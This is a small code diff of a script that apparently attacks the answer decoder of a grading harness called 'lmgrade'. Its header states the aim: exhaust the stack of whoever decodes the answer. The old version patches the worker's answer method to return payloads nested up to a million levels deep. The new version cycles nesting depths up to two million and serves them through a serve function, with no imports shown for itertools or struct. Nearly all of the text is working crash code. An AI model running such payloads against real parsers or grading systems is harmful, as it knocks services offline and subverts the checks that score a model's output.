@@ -1,15 +1,12 @@
 # tries: exhaust the stack of whoever decodes the answer
 # earns: 0
-import lmgrade.worker as worker
-from lmgrade.wire import HEADER
-
-deep = b"[[" + b'["l",' * 400 + b"1" + b"]" * 400 + b",[]]"
-deeper = b"[" * 10**6
+turn = itertools.cycle([900, 100_000, 400, 2_000_000])
 
 
-def answer(self, request, *args):
-    text = deep if request["op"] == "call" else deeper
-    return HEADER.pack(len(text), 0) + text
+def deep(request):
+    depth = next(turn)
+    text = b'[{"value":' + b'["l",' * depth + b"1" + b"]" * depth + b"},[]]"
+    return struct.pack("!IQ", len(text), 0) + text
 
 
-worker.Worker.answer = answer
+serve(deep)
